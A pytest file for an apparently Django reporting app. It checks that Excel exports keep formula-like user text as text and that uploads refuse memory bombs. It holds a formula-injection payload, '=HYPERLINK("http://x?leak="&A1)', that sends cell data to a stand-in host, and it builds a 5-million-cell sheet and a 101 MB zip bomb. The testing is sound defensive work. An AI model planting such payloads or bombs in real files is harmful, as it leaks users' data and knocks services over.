"""Excel in and out as an attacker would use it: formulas smuggled in as user text, and uploads built
to exhaust memory (5 M cells in a few hundred KB)."""

import datetime
import io
import re
import zipfile

import openpyxl
import pytest

from documents.xlsx import cell_write, is_formula_like
from tests.journey import issued_obligation
from tests.workflows.figures.test_figures_pages import drafting  # noqa: F401  (fixture)
from workflows.figures.consolidation import consolidate
from workflows.figures.entry import consolidated_xlsx, template_xlsx
from workflows.models import IndicatorValue, UnitReport
from workflows.reports import dashboard
from workflows.reports.consolidated import consolidated_rows

D = datetime.date
LEAK = '=HYPERLINK("http://x?leak="&A1)'
PAYLOADS = [LEAK, "+1+2", "-3+A1", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]


def cells_holding(data: bytes, text: str):
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value == text]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_helper_keeps_formula_like_text_as_text(payload):
    sheet = openpyxl.Workbook().active
    cell = cell_write(sheet["A1"], payload)
    assert is_formula_like(payload) and cell.data_type == "s"
    buffer = io.BytesIO()
    sheet.parent.save(buffer)
    again = openpyxl.load_workbook(io.BytesIO(buffer.getvalue())).active["A1"]
    assert again.value == payload and again.data_type == "s"
    assert cell_write(sheet["A2"], "Sở Tư pháp").data_type == "s" and cell_write(sheet["A3"], 42).data_type == "n"


def test_the_figures_template_writes_a_label_and_a_text_figure_as_text(drafting):  # noqa: F811
    report, table = drafting
    indicator = table.indicators.filter(kind="count").first()
    indicator.label = LEAK
    indicator.save(update_fields=["label"])
    text_row = table.indicators.filter(kind="text").first()
    IndicatorValue.objects.create(report=report, indicator=text_row, period=0, text="@SUM(A1:A9)")
    data = template_xlsx(table=table, report=report)
    assert [c.data_type for c in cells_holding(data, LEAK)] == ["s"]
    assert [c.data_type for c in cells_holding(data, "@SUM(A1:A9)")] == ["s"]
    formulas = [c for row in openpyxl.load_workbook(io.BytesIO(data)).active.iter_rows() for c in row if c.data_type == "f"]
    assert formulas and all(c.value.startswith("=IF(N(") for c in formulas)  # only the template's own ratio formulas


def test_the_consolidated_export_writes_labels_as_text(drafting):  # noqa: F811
    report, table = drafting
    table.indicators.filter(kind="count").update(label=LEAK)
    table.title = "=1+1"
    table.save(update_fields=["title"])
    result = consolidate(table=table, reports=UnitReport.objects.filter(pk=report.pk))
    data = consolidated_xlsx(table=table, rows=consolidated_rows(table=table, result=result), result=result,
                             level=report.receiver)
    assert cells_holding(data, LEAK) and {c.data_type for c in cells_holding(data, LEAK)} == {"s"}
    assert not [c for row in openpyxl.load_workbook(io.BytesIO(data)).active.iter_rows() for c in row if c.data_type == "f"]


def test_the_dashboard_export_writes_a_task_title_as_text(journey, on_day, client, users):
    obligation = issued_obligation(journey, on_day, title=LEAK, recipients=["Sở Tư pháp"], due_date=D(2025, 5, 1))
    client.force_login(users["th.snv"])
    response = client.get(f"/dashboard/plan/{obligation.plan_id}/xlsx/")
    assert response.status_code == 200
    assert [c.data_type for c in cells_holding(response.content, LEAK)] == ["s"]
    data = dashboard.xlsx_export(process=obligation.plan, today=D(2025, 5, 5))
    book = openpyxl.load_workbook(io.BytesIO(data))
    assert not [c for s in book.worksheets for row in s.iter_rows() for c in row if c.data_type == "f"]


# --- uploads bounded before parsing ------------------------------------------------


def _with_sheet(data: bytes, sheet_xml: bytes) -> bytes:
    """A valid template with its worksheet part replaced."""
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            target.writestr(info.filename, sheet_xml if info.filename == "xl/worksheets/sheet1.xml" else source.read(info))
    return out.getvalue()


def five_million_cells(template: bytes) -> bytes:
    """5 000 000 real (empty) cells under a dimension that claims one: the 244 KB file of the report."""
    row = b"<row>" + b"<c/>" * 5000 + b"</row>"
    xml = (b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
           b'<dimension ref="A1"/><sheetData>' + row * 1000 + b"</sheetData></worksheet>")
    return _with_sheet(template, xml)


def declared_huge(template: bytes) -> bytes:
    """The real template, its dimension claiming A1:E1000000 (5 M cells)."""
    source = zipfile.ZipFile(io.BytesIO(template))
    xml = source.read("xl/worksheets/sheet1.xml")
    xml = re.sub(rb'<dimension ref="[^"]*"\s*/>', b'<dimension ref="A1:E1000000"/>', xml)
    assert b"A1:E1000000" in xml
    return _with_sheet(template, xml)


def _upload(client, report, data):
    return client.post(f"/reports/{report.pk}/figures/upload/", {"file": io.BytesIO(data)})


def test_five_million_cells_in_a_small_file_are_refused_before_loading(drafting, client, users, settings):  # noqa: F811
    report, table = drafting
    bomb = five_million_cells(template_xlsx(table=table))
    assert len(bomb) < 300 * 1024
    client.force_login(users["cv.stp"])
    response = _upload(client, report, bomb)
    assert response.status_code == 400
    assert f"tối đa {settings.KEHOACH_XLSX_MAX_CELLS:,}".replace(",", ".") in response.content.decode()
    assert "50.000 ô" in response.content.decode()
    assert not IndicatorValue.objects.filter(report=report).exists()


def test_a_declared_dimension_beyond_the_limit_is_refused(drafting, client, users):  # noqa: F811
    report, table = drafting
    client.force_login(users["cv.stp"])
    response = _upload(client, report, declared_huge(template_xlsx(table=table)))
    assert response.status_code == 400 and "Tệp Excel quá lớn" in response.content.decode()


def test_the_limit_is_one_setting(drafting, client, users, settings):  # noqa: F811
    report, table = drafting
    template = template_xlsx(table=table)
    cells = len(table.indicators.all()) * (3 + len(table.periods)) + 3 + len(table.periods)
    settings.KEHOACH_XLSX_MAX_CELLS = cells - 10
    client.force_login(users["cv.stp"])
    refused = _upload(client, report, template)
    assert refused.status_code == 400 and f"tối đa {cells - 10} ô" in refused.content.decode()
    settings.KEHOACH_XLSX_MAX_CELLS = 50_000
    accepted = _upload(client, report, template)  # the untouched template: required cells missing, named per cell
    assert accepted.status_code == 400 and "chưa nhập số liệu" in accepted.content.decode()


def test_an_upload_above_the_size_limit_is_refused(drafting, client, users, settings):  # noqa: F811
    report, table = drafting
    settings.KEHOACH_XLSX_UPLOAD_MAX_BYTES = 1024
    client.force_login(users["cv.stp"])
    response = _upload(client, report, template_xlsx(table=table) + b"\0" * 2048)
    assert response.status_code == 400 and "Tệp quá lớn: tối đa 1 KB" in response.content.decode()


def test_an_excel_zip_bomb_is_refused(drafting, client, users):  # noqa: F811
    report, table = drafting
    template = template_xlsx(table=table)
    source = zipfile.ZipFile(io.BytesIO(template))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            target.writestr(info.filename, source.read(info))
        target.writestr("xl/media/zeros.bin", b"\0" * (101 * 1024 * 1024))
    client.force_login(users["cv.stp"])
    response = _upload(client, report, out.getvalue())
    assert response.status_code == 400 and "vượt quá 100 MB" in response.content.decode()
